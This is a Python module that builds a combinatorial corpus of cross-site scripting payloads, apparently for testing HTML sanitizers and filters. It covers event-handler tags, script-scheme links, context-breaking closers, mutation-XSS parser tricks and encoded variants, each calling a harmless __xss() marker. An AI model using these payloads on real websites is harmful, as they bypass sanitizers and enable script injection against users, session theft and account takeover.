"""Hostile text, made by combining its parts: more than a thousand ways to have a browser run or load something.

Each calls `__xss()`, so that a page can tell whether one ran. Nothing here is a list that was copied: tags, events,
schemes, encodings and the contexts to break out of are multiplied with one another.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

ROEP = "__xss()"
ZELF = {  # an element with what makes its event happen by itself, and the events
    "img": ("src=x", ("onerror", "onloadend")),
    "svg": ("", ("onload",)),
    "body": ("", ("onload", "onpageshow", "onfocus")),
    "details open": ("", ("ontoggle",)),
    "input autofocus": ("", ("onfocus", "onfocusin")),
    "video src=x": ("autoplay", ("onerror", "onloadstart")),
    "audio src=x": ("autoplay", ("onerror", "onloadstart")),
    "object data=x": ("", ("onerror",)),
    "p": ("contenteditable tabindex=0 autofocus", ("onfocus", "onpointerenter", "onanimationstart", "onclick")),
    "strong": ("tabindex=1", ("onmouseover", "onbeforecopy", "oncontentvisibilityautostatechange")),
    "li": ("", ("onmouseenter", "ontransitionend")),
    "a href=https://a.test/": ("", ("onclick", "onfocus", "onauxclick")),
    "marquee": ("", ("onstart",)),
    "style": ("", ("onload",)),
    "iframe": ("", ("onload",)),
}
TUSSEN = (" ", "/", "\t", "\n", "\x0c", " / ", '"', "\x00")
"""What may stand between a tag and its attribute, for one parser or another."""
AANHALING = ("{}", '"{}"', "'{}'", "`{}`")
SCHEMAS = ("javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,<script>{}</script>", "data:image/svg+xml,")
IN_SCHEMA = ("{}", " {}", "\x01{}", "&#9;{}", "&Tab;{}", "&NewLine;{}", "&#x0000A;{}")
DRAGERS = (
    '<a href="{}">klik</a>',
    "<a href='{}'>klik</a>",
    "<a href={}>klik</a>",
    '<form action="{}"><input type=submit></form>',
    '<form><button formaction="{}">klik</button></form>',
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><text y=9>klik</text></a></svg>',
    '<math><mi href="{}">klik</mi></math>',
    '<svg><use href="{}"/></svg>',
    '<svg><animate attributeName=href values="{}"/></svg>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
    '<link rel=stylesheet href="{}">',
    "[klik]({})",
    "[klik](<{}>)",
    "![x]({})",
)
KERNEN = (
    f"<script>{ROEP}</script>",
    f"<img src=x onerror={ROEP}>",
    f"<svg onload={ROEP}>",
    f"<svg><script>{ROEP}</script></svg>",
    f"<iframe srcdoc='&lt;script&gt;parent.{ROEP}&lt;/script&gt;'></iframe>",
)
SLUITERS = (
    '">', "'>", "`>", "-->", "--!>", "]]>", "</textarea>", "</title>", "</style>", "</script>", "</template>",
    "</select>", "</option></select>", "</noscript>", "</iframe>", "</svg>", "</math>", "</p></section></main>",
    "</li></ul></div>", "</td></tr></table>", "</button></form>", "</datalist>", "</summary></details>",
    "<!--", "<![CDATA[", "<?x ", "<plaintext>", "<xmp>", "<noembed>", "<listing>",
)  # fmt: skip
MUTATIES = (
    '<svg></p><style><a title="</style>{}">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{}">',
    "<svg><style>&lt;{}</style></svg>",
    '<noscript><p title="</noscript>{}">',
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<select><style></select>{}</style>",
    "<table><td>{}</table>",
    "<p><svg><desc>{}</desc></svg>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<template>{}</template>",
    "<ul><li><p>{}</ul>",
    "<strong><em><strong>{}",
    "<a href='opgave:x'><a href='opgave:y'>{}</a></a>",
)
SCRIPTS = (
    "'-{}-'", '"-{}-"', "\\'-{}//", "${{{}}}", "{{{{constructor.constructor('{}')()}}}}",
    "</script><script>{}</script>", "\u2028{}\u2029", "*/{}/*", "'}});{};//", "]}}'-{}-'",
)  # fmt: skip


def _versleuteld(html: str) -> Iterator[str]:
    """The same text in other writings: entities, twice encoded, full width, invisible signs in between."""
    yield html.replace("<", "&lt;").replace(">", "&gt;")
    yield html.replace("<", "&#60;").replace(">", "&#x3E;")
    yield html.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield html.replace("<", "%3C").replace(">", "%3E")
    yield html.replace("<", "\\u003c").replace(">", "\\x3e")
    yield html.replace("<", "\uff1c").replace(">", "\uff1e")
    yield html.replace("<", "<\u200b")
    yield html.replace("<", "\u202e<")
    yield html.replace("<", "<\x00")
    yield html.replace("script", "scr<script>ipt").replace("img", "i<img>mg")
    yield html.replace("script", "\u017fcript").replace("img", "\u0131mg")
    yield html.upper().replace(ROEP.upper(), ROEP)
    yield html.replace(">", "")
    yield html.replace(" ", "/").replace("onerror=", "onerror\n=\n")
    yield "\ufeff" + html
    yield f"+ADw-{html[1:-1]}+AD4-"


def ladingen() -> list[str]:
    """All of them, each once, in a fixed order."""
    uit: list[str] = []
    for (kop, (erbij, gebeurtenissen)), tussen, aanhaling in product(ZELF.items(), TUSSEN, AANHALING):
        for gebeurtenis in gebeurtenissen:
            roep = aanhaling.format(ROEP)
            uit.append(f"<{kop}{tussen}{erbij} {gebeurtenis}={roep}>".replace("  ", " "))
    for drager, schema, binnen in product(DRAGERS, SCHEMAS, IN_SCHEMA):
        adres = schema.format(ROEP) if "{}" in schema else schema + ROEP
        uit.append(drager.format(binnen.format(adres)))
    for sluiter, kern in product(SLUITERS, KERNEN):
        uit.append(sluiter + kern)
    for mutatie, kern in product(MUTATIES, KERNEN):
        uit.append(mutatie.format(kern))
    for kern in KERNEN:
        uit += _versleuteld(kern)
    uit += [script.format(ROEP) for script in SCRIPTS]
    for naam in ("hx-get", "hx-on:click", "data-hx-on:load", "hx-vals='js:x:{}'", "style", "srcdoc", "is", "slot"):
        uit.append(f'<div {naam}="{ROEP}" hx-trigger="load">x</div>')
    return list(dict.fromkeys(uit))


def per_bladzijde(teksten: list[str], tekens: int) -> list[list[str]]:
    """In portions of at most so many characters."""
    uit: list[list[str]] = [[]]
    lengte = 0
    for tekst in teksten:
        if lengte + len(tekst) > tekens and uit[-1]:
            uit.append([])
            lengte = 0
        uit[-1].append(tekst)
        lengte += len(tekst) + 8
    return uit
